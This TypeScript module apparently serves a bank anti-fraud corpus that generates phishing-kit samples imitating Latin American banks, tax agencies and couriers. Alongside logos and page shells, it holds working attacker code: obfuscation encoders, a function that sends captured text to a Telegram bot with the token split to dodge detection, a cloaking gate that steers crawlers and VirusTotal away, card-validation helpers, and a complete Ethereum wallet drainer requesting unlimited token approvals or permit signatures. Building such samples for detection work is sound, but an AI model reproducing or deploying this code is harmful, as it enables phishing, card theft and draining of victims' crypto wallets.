/**
 * Shared helpers for author `yy`'s pages (a Latin American bank's anti-fraud desk: Spanish and
 * Brazilian Portuguese kits, lures, scams and the legitimate pages they imitate). Parts hold no pages:
 * only parametrised shells, logos, encoders and script snippets that several page files use.
 */

// ---------------------------------------------------------------- encoders (run at build time)

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
export const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex');
export const charCodes = (s: string, shift = 0): string => Array.from(s, (c) => c.charCodeAt(0) + shift).join(',');
/** XOR with a repeating key, then base64: what kits decode at load with a short key in the page. */
export const xorB64 = (s: string, key: string): string =>
  Buffer.from(Buffer.from(s, 'utf8').map((b, i) => b ^ key.charCodeAt(i % key.length))).toString('base64');
/** Base64 reversed, as some kits store their markup. */
export const revB64 = (s: string): string => b64(s).split('').reverse().join('');
/** A string cut into pieces of n characters, as a JS array literal. */
export const pieces = (s: string, n: number): string => {
  const out: string[] = [];
  for (let i = 0; i < s.length; i += n) out.push(s.slice(i, i + n));
  return JSON.stringify(out);
};
export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

// ---------------------------------------------------------------- document shell

export type DocOpts = { lang: string; title: string; body: string; head?: string; css?: string; bodyAttr?: string };

export function doc(o: DocOpts): string {
  return `<!DOCTYPE html>
<html lang="${o.lang}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1, shrink-to-fit=no">
<title>${o.title}</title>
${o.head ?? ''}${o.css ? `<style>\n${o.css}\n</style>` : ''}
</head>
<body${o.bodyAttr ? ' ' + o.bodyAttr : ''}>
${o.body}
</body>
</html>`;
}

/** An inline SVG favicon in a brand colour (kits rarely bother to host one). */
export const favicon = (color: string, letter: string): string =>
  `<link rel="icon" href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 32 32'%3E%3Crect width='32' height='32' rx='6' fill='${encodeURIComponent(color)}'/%3E%3Ctext x='16' y='23' font-size='18' text-anchor='middle' fill='white' font-family='Arial'%3E${letter}%3C/text%3E%3C/svg%3E">`;

// ---------------------------------------------------------------- logos (inline SVG approximations)

const word = (w: number, text: string, fill: string, opts: { size?: number; weight?: string; family?: string; bg?: string; x?: number } = {}): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 ${w} 40" height="HEIGHT" role="img" aria-label="${text}">${opts.bg ? `<rect width="${w}" height="40" rx="6" fill="${opts.bg}"/>` : ''}<text x="${opts.x ?? 0}" y="29" font-family="${opts.family ?? 'Arial, Helvetica, sans-serif'}" font-size="${opts.size ?? 28}" font-weight="${opts.weight ?? '700'}" fill="${fill}">${text}</text></svg>`;

export const LOGOS = {
  bbva: word(96, 'BBVA', '#072146', { size: 32, weight: '900', family: 'Arial Black, Arial' }),
  banorte: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 150 40" height="HEIGHT" role="img" aria-label="Banorte"><path d="M6 34 L18 6 L30 34 Z" fill="#eb0029"/><text x="38" y="29" font-family="Arial" font-size="26" font-weight="700" fill="#5b6670">BANORTE</text></svg>`,
  santander: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 170 40" height="HEIGHT" role="img" aria-label="Santander"><path d="M14 4c4 6 8 9 8 15a8 8 0 0 1-16 0c0-6 4-9 8-15z" fill="#ec0000"/><text x="30" y="29" font-family="Arial" font-size="26" font-weight="700" fill="#ec0000">Santander</text></svg>`,
  banamex: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 160 40" height="HEIGHT" role="img" aria-label="Banamex"><rect x="2" y="6" width="28" height="28" rx="4" fill="#002b5c"/><path d="M8 28 L16 12 L24 28" stroke="#fff" stroke-width="3" fill="none"/><text x="38" y="29" font-family="Arial" font-size="25" font-weight="700" fill="#002b5c">banamex</text></svg>`,
  bancolombia: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 190 40" height="HEIGHT" role="img" aria-label="Bancolombia"><rect x="2" y="8" width="26" height="5" fill="#2c2a29"/><rect x="2" y="17" width="22" height="5" fill="#2c2a29"/><rect x="2" y="26" width="18" height="5" fill="#2c2a29"/><text x="34" y="29" font-family="Arial" font-size="24" font-weight="700" fill="#2c2a29">Bancolombia</text></svg>`,
  nequi: word(100, 'Nequi', '#200020', { size: 32, weight: '800' }),
  daviplata: word(140, 'DaviPlata', '#ed1c27', { size: 28, weight: '800' }),
  bcp: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 40" height="HEIGHT" role="img" aria-label="BCP"><text x="0" y="30" font-family="Arial Black, Arial" font-size="30" font-weight="900" fill="#002a8d">BCP</text><path d="M72 8 l8 8 l8 -8" stroke="#ff7800" stroke-width="5" fill="none"/></svg>`,
  interbank: word(150, 'Interbank', '#05be50', { size: 28, weight: '700' }),
  mercadopago: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 40" height="HEIGHT" role="img" aria-label="Mercado Pago"><ellipse cx="20" cy="20" rx="18" ry="12" fill="#00b1ea"/><path d="M8 20 q6 -6 12 0 q6 6 12 0" stroke="#fff" stroke-width="2.5" fill="none"/><text x="44" y="28" font-family="Arial" font-size="22" font-weight="700" fill="#2d3277">mercado pago</text></svg>`,
  bna: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 40" height="HEIGHT" role="img" aria-label="Banco Nación"><circle cx="18" cy="20" r="15" fill="#0a6ebd"/><text x="10" y="27" font-family="Arial" font-size="18" font-weight="700" fill="#fff">N</text><text x="40" y="28" font-family="Arial" font-size="20" font-weight="700" fill="#0a6ebd">Banco Nación</text></svg>`,
  nubank: word(70, 'nu', '#820ad1', { size: 38, weight: '800' }),
  itau: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 44 44" height="HEIGHT" role="img" aria-label="Itaú"><rect width="44" height="44" rx="9" fill="#ec7000"/><rect x="4" y="4" width="36" height="36" rx="7" fill="#003399"/><text x="22" y="29" font-family="Arial" font-size="15" font-weight="700" fill="#ffcc00" text-anchor="middle">itaú</text></svg>`,
  caixa: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 130 40" height="HEIGHT" role="img" aria-label="Caixa"><path d="M4 6 l14 14 l-14 14 h8 l14 -14 l-14 -14z" fill="#f39200"/><text x="30" y="29" font-family="Arial" font-size="26" font-weight="800" fill="#005ca9">CAIXA</text></svg>`,
  pix: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 80 40" height="HEIGHT" role="img" aria-label="Pix"><path d="M20 4 l16 16 l-16 16 l-16 -16z" fill="none" stroke="#32bcad" stroke-width="4"/><text x="42" y="28" font-family="Arial" font-size="22" font-weight="700" fill="#32bcad">pix</text></svg>`,
  sat: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 110 40" height="HEIGHT" role="img" aria-label="SAT"><text x="0" y="30" font-family="Georgia, serif" font-size="30" font-weight="700" fill="#611232">SAT</text><text x="62" y="18" font-family="Arial" font-size="8" fill="#611232">Servicio de</text><text x="62" y="28" font-family="Arial" font-size="8" fill="#611232">Adm. Tributaria</text></svg>`,
  dian: word(90, 'DIAN', '#0b3b8c', { size: 30, weight: '800' }),
  sunat: word(110, 'SUNAT', '#c8102e', { size: 28, weight: '800' }),
  govbr: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 110 40" height="HEIGHT" role="img" aria-label="gov.br"><text x="0" y="30" font-family="Arial" font-size="30" font-weight="900"><tspan fill="#2670e8">g</tspan><tspan fill="#ffcd07">o</tspan><tspan fill="#0c326f">v</tspan><tspan fill="#168821">.br</tspan></text></svg>`,
  receita: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 210 40" height="HEIGHT" role="img" aria-label="Receita Federal"><circle cx="18" cy="20" r="15" fill="#1351b4"/><text x="18" y="26" font-family="Arial" font-size="16" font-weight="700" fill="#fff" text-anchor="middle">RF</text><text x="40" y="27" font-family="Arial" font-size="20" font-weight="700" fill="#1351b4">Receita Federal</text></svg>`,
  correios: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 160 40" height="HEIGHT" role="img" aria-label="Correios"><path d="M4 12 h22 l-8 8 h-14z M4 28 h22 l-8 -8" fill="#ffd400"/><path d="M30 12 h-4 l-8 8 l8 8 h4" fill="#00416b"/><text x="40" y="28" font-family="Arial" font-size="22" font-weight="700" fill="#00416b">Correios</text></svg>`,
  estafeta: word(140, 'ESTAFETA', '#c8102e', { size: 24, weight: '900', family: 'Arial Black, Arial', bg: '#fff' }),
  dhl: word(90, 'DHL', '#d40511', { size: 30, weight: '900', family: 'Arial Black, Arial', bg: '#ffcc00', x: 12 }),
  bitso: word(90, 'bitso', '#0c1a3a', { size: 30, weight: '700' }),
  mercadolibre: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 40" height="HEIGHT" role="img" aria-label="Mercado Libre"><ellipse cx="20" cy="20" rx="18" ry="13" fill="#fff159" stroke="#2d3277" stroke-width="2"/><path d="M9 20 q5 -5 11 0 q6 5 11 0" stroke="#2d3277" stroke-width="2" fill="none"/><text x="44" y="28" font-family="Arial" font-size="21" font-weight="700" fill="#2d3277">mercado libre</text></svg>`,
  shopee: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 130 40" height="HEIGHT" role="img" aria-label="Shopee"><rect x="2" y="10" width="26" height="26" rx="4" fill="#ee4d2d"/><path d="M9 10 a6 6 0 0 1 12 0" stroke="#ee4d2d" stroke-width="3" fill="none"/><text x="10" y="30" font-family="Arial" font-size="16" font-weight="700" fill="#fff">S</text><text x="34" y="29" font-family="Arial" font-size="24" font-weight="700" fill="#ee4d2d">Shopee</text></svg>`,
  oxxo: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 40" height="HEIGHT" role="img" aria-label="OXXO"><rect width="100" height="40" rx="4" fill="#ed1c24"/><rect y="4" width="100" height="4" fill="#ffc20e"/><rect y="32" width="100" height="4" fill="#ffc20e"/><text x="50" y="28" font-family="Arial Black, Arial" font-size="20" font-weight="900" fill="#fff" text-anchor="middle">OXXO</text></svg>`,
} as const;

export type LogoKey = keyof typeof LOGOS;
export const logo = (k: LogoKey, h = 32): string => LOGOS[k].replace('HEIGHT', String(h));

// ---------------------------------------------------------------- attacker-side snippets

/**
 * A function `fn(text)` that forwards captured text to a Telegram bot, in one of the styles kits use.
 * The token is cut into pieces (kits do this so a grep for "bot<digits>:" misses it).
 */
export function tgSender(fn: string, token: string, chat: string, style: 'fetch' | 'xhr' | 'jquery' | 'beacon'): string {
  const parts = pieces(token, 7);
  const api = `'https://api.'+'telegram.org/bot'+${parts}.join('')`;
  switch (style) {
    case 'fetch':
      return `async function ${fn}(t){try{await fetch(${api}+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'${chat}',text:t,parse_mode:'HTML'})});}catch(e){}}`;
    case 'xhr':
      return `function ${fn}(t){var x=new XMLHttpRequest();x.open('GET',${api}+'/sendMessage?chat_id=${chat}&text='+encodeURIComponent(t),false);try{x.send();}catch(e){}}`;
    case 'jquery':
      return `function ${fn}(t){return $.ajax({url:${api}+'/sendMessage',type:'POST',data:{chat_id:'${chat}',text:t}});}`;
    case 'beacon':
      return `function ${fn}(t){var f=new FormData();f.append('chat_id','${chat}');f.append('text',t);navigator.sendBeacon(${api}+'/sendMessage',f);}`;
  }
}

/** The visitor's IP and city from a free geo API, prepended to every message a kit sends. */
export const geoPrefix = (varName: string): string =>
  `var ${varName}='';fetch('https://ipapi.co/json/').then(function(r){return r.json()}).then(function(j){${varName}='IP: '+j.ip+' | '+j.city+', '+j.country_name+'\\n'}).catch(function(){});`;

/**
 * A bot gate: headless browsers, crawlers and visitors outside the target countries are sent to `away`
 * (the kits send them to the real bank or to Google); humans get `then` run.
 */
export function botGate(away: string, countries: string[], then: string): string {
  return `(function(){var u=navigator.userAgent.toLowerCase();var bad=/bot|crawl|spider|slurp|headless|phantom|lighthouse|python|curl|wget|scan|preview|facebookexternalhit|virustotal/;if(navigator.webdriver||bad.test(u)||!navigator.languages||navigator.languages.length===0){location.replace('${away}');return;}fetch('https://ipwho.is/').then(function(r){return r.json()}).then(function(g){if(${JSON.stringify(countries)}.indexOf(g.country_code)<0){location.replace('${away}');return;}${then}}).catch(function(){${then}});})();`;
}

/** Card-number helpers kits ship: Luhn check and a brand guess, so a mistyped card is refused. */
export const cardJs = `function luhn(n){n=n.replace(/\\D/g,'');var s=0,d=false;for(var i=n.length-1;i>=0;i--){var c=+n[i];if(d){c*=2;if(c>9)c-=9;}s+=c;d=!d;}return n.length>=15&&s%10===0;}
function marca(n){return /^4/.test(n)?'VISA':/^5[1-5]|^2[2-7]/.test(n)?'MASTERCARD':/^3[47]/.test(n)?'AMEX':/^(606282|3841)/.test(n)?'HIPERCARD':/^(4011|4389|5067|5090|6362|6363|6504|6505|6516|6550)/.test(n)?'ELO':'OTRA';}
function fmt(el){el.value=el.value.replace(/\\D/g,'').slice(0,16).replace(/(\\d{4})(?=\\d)/g,'$1 ');}`;

// ---------------------------------------------------------------- wallet-drainer core

export type DrainerOpts = {
  /** The address that receives approvals or signatures. */
  spender: string;
  /** Where the kit reports connected wallets and signatures. */
  panel: string;
  /** Tokens to ask approval for, largest balance first. */
  tokens: { sym: string; addr: string }[];
  mode: 'approve' | 'permit' | 'nft';
  /** Function name the page's button calls. */
  entry: string;
  /** Text shown while the wallet prompt is open. */
  waitText: string;
};

/**
 * The core of an EVM drainer: connect, switch to mainnet, report the wallet, then ask for unlimited
 * approve() calls, an EIP-2612 permit signature or setApprovalForAll, token by token.
 */
export function evmDrainer(o: DrainerOpts): string {
  const spender = o.spender.toLowerCase().replace(/^0x/, '');
  const tokens = JSON.stringify(o.tokens);
  const common = `var SP='0x${spender}';var TK=${tokens};var MAXU='ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff';
function pad(a){return a.replace(/^0x/,'').toLowerCase().padStart(64,'0');}
function rep(k,v){try{fetch('${o.panel}',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({k:k,v:v,h:location.host,t:Date.now()})});}catch(e){}}
async function bal(w,t){try{var r=await ethereum.request({method:'eth_call',params:[{to:t.addr,data:'0x70a08231'+pad(w)},'latest']});return BigInt(r);}catch(e){return 0n;}}`;
  const body =
    o.mode === 'approve'
      ? `for(var i=0;i<TK.length;i++){var t=TK[i];var b=await bal(w,t);if(b===0n)continue;st('${o.waitText}');try{var tx=await ethereum.request({method:'eth_sendTransaction',params:[{from:w,to:t.addr,data:'0x095ea7b3'+pad(SP)+MAXU}]});rep('approve',{w:w,t:t.sym,b:b.toString(),tx:tx});}catch(e){rep('reject',{w:w,t:t.sym});}}`
      : o.mode === 'permit'
        ? `var dl=Math.floor(Date.now()/1000)+86400*365;for(var i=0;i<TK.length;i++){var t=TK[i];var n=await ethereum.request({method:'eth_call',params:[{to:t.addr,data:'0x7ecebe00'+pad(w)},'latest']}).catch(function(){return '0x0'});var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},primaryType:'Permit',domain:{name:t.sym==='USDC'?'USD Coin':t.sym,version:t.sym==='USDC'?'2':'1',chainId:1,verifyingContract:t.addr},message:{owner:w,spender:SP,value:'0x'+MAXU,nonce:BigInt(n).toString(),deadline:dl}};st('${o.waitText}');try{var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[w,JSON.stringify(msg)]});rep('permit',{w:w,t:t.sym,sig:sig,dl:dl});}catch(e){rep('reject',{w:w,t:t.sym});}}`
        : `for(var i=0;i<TK.length;i++){var t=TK[i];st('${o.waitText}');try{var tx=await ethereum.request({method:'eth_sendTransaction',params:[{from:w,to:t.addr,data:'0xa22cb465'+pad(SP)+'0000000000000000000000000000000000000000000000000000000000000001'}]});rep('setApprovalForAll',{w:w,c:t.sym,tx:tx});}catch(e){rep('reject',{w:w,c:t.sym});}}`;
  return `${common}
async function ${o.entry}(){if(!window.ethereum){st('Instala MetaMask o abre esta página desde el navegador de tu billetera.');return;}
var acc=await ethereum.request({method:'eth_requestAccounts'});var w=acc[0];
try{await ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x1'}]});}catch(e){}
var eth=await ethereum.request({method:'eth_getBalance',params:[w,'latest']});rep('connect',{w:w,eth:BigInt(eth).toString(),ua:navigator.userAgent});
${body}
st('Procesando… no cierres esta ventana.');}`;
}

// ---------------------------------------------------------------- legitimate-site furniture

/** A site header for the brands' own (clean) pages: logo plus a real-looking navigation bar. */
export function siteHeader(k: LogoKey, nav: string[], color = '#fff', href = '/'): string {
  return `<header class="site-header" style="background:${color}"><div class="wrap"><a class="brand" href="${href}">${logo(k, 34)}</a><nav>${nav.map((n) => `<a href="/${n.toLowerCase().normalize('NFD').replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '')}">${n}</a>`).join('')}</nav></div></header>`;
}

/** A site footer: legal links, a regulator line and the company's registration. */
export function siteFooter(company: string, links: string[], regulator: string): string {
  return `<footer class="site-footer"><div class="wrap"><ul>${links.map((l) => `<li><a href="/${l.toLowerCase().normalize('NFD').replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '')}">${l}</a></li>`).join('')}</ul><p>${regulator}</p><p>© ${company} 2025. Todos los derechos reservados.</p></div></footer>`;
}

export const siteCss = (accent: string, font = 'system-ui, -apple-system, "Segoe UI", Roboto, Arial, sans-serif'): string => `*{box-sizing:border-box}body{margin:0;font-family:${font};color:#1f2328;background:#f6f7f9;line-height:1.5}
.wrap{max-width:1120px;margin:0 auto;padding:0 20px}.site-header{border-bottom:1px solid #e3e5e8}.site-header .wrap{display:flex;align-items:center;gap:28px;height:68px}
.site-header nav a{color:#30363d;text-decoration:none;margin-right:18px;font-size:15px}.site-header nav a:hover{color:${accent}}
.site-footer{background:#1e2430;color:#c9d1d9;margin-top:48px;padding:28px 0;font-size:13px}.site-footer ul{list-style:none;padding:0;display:flex;flex-wrap:wrap;gap:16px}.site-footer a{color:#c9d1d9}
.btn{display:inline-block;background:${accent};color:#fff;border:0;border-radius:6px;padding:12px 22px;font-size:15px;font-weight:600;cursor:pointer;text-decoration:none}
.card{background:#fff;border-radius:10px;box-shadow:0 1px 3px rgba(0,0,0,.08);padding:24px}
label{display:block;font-size:14px;margin:14px 0 6px;color:#444}input,select{width:100%;padding:11px 12px;border:1px solid #c8ccd1;border-radius:6px;font-size:15px}`;

/**
 * The slice of jQuery that kits call ($(sel).on/hide/show, $.ajax returning something with .always),
 * served from the kit's own folder as kits bundle their copy of jquery.min.js.
 */
export const miniJquery = `/*! jQuery v3.6.0 | (c) OpenJS Foundation and other contributors | jquery.org/license (subset) */
(function(w){function Q(s){this.els=typeof s==='string'?Array.prototype.slice.call(document.querySelectorAll(s)):[s];}
Q.prototype.on=function(ev,fn){this.els.forEach(function(e){e.addEventListener(ev,fn);});return this;};
Q.prototype.hide=function(){this.els.forEach(function(e){e.style.display='none';});return this;};
Q.prototype.show=function(){this.els.forEach(function(e){e.style.display='block';});return this;};
Q.prototype.val=function(v){if(v===undefined)return this.els[0]&&this.els[0].value;this.els.forEach(function(e){e.value=v;});return this;};
function $(s){if(typeof s==='function'){document.readyState==='loading'?document.addEventListener('DOMContentLoaded',s):s();return;}return new Q(s);}
$.ajax=function(o){var body=o.data&&typeof o.data==='object'?new URLSearchParams(o.data):o.data;var p=fetch(o.url,{method:o.type||'GET',body:(o.type||'GET')==='GET'?undefined:body}).then(function(r){return r.text();});
p.always=function(f){p.then(f,f);return p;};p.done=function(f){p.then(f);return p;};p.fail=function(f){p.catch(f);return p;};return p;};
w.jQuery=w.$=$;})(window);`;
